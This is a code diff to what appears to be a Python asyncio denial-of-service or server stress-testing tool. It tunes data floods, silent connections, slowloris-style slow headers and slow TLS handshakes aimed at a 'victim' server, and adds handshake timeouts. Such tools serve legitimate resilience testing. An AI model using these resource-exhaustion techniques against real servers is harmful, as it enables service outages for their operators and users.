@@ -20,6 +20,8 @@ BLOCK = 64 * 1024
 HUGE = (1 << 63) - 1
 GRACE_S = 10.0
 """How long after the attack it is waited for the end of a connection, seconds; a victim that ends one does it sooner."""
+HANDSHAKE_S = 30.0
+"""The same for a handshake, which a victim ends after ten seconds, or later where thousands came before."""
 
 
 @dataclass
@@ -57,7 +59,11 @@ async def _flood(target: Target, block: bytes, count: int, *, first: bytes = b""
     loop = asyncio.get_running_loop()
     while loop.time() < target.until_s:
         peer = await target.open(deflate=deflate)
-        goes_on = await peer.push(first, target.until_s)
+        if loop.time() >= target.until_s:  # too late to begin
+            peer.leave()
+            return
+        goes_on = await peer.push(first + block, target.until_s)
+        target.sent += count
         while goes_on:
             target.sent += count
             goes_on = await peer.push(block, target.until_s)
@@ -141,7 +147,7 @@ async def bombs_with_memory(target: Target, place: int) -> None:
 async def silent(target: Target, place: int) -> None:
     """Connect and say nothing."""
     target.sent += 1
-    await _end(target, await target.open(upgrade=False))
+    await _end(target, await target.open(upgrade=False), HANDSHAKE_S)
 
 
 async def slow_head(target: Target, place: int) -> None:
@@ -152,7 +158,7 @@ async def slow_head(target: Target, place: int) -> None:
         target.sent += 1
         peer.transport.write(b"x")
         await peer.outlast(min(target.until_s, asyncio.get_running_loop().time() + 1))
-    await _end(target, peer)
+    await _end(target, peer, HANDSHAKE_S)
 
 
 async def slow_tls(target: Target, place: int) -> None:
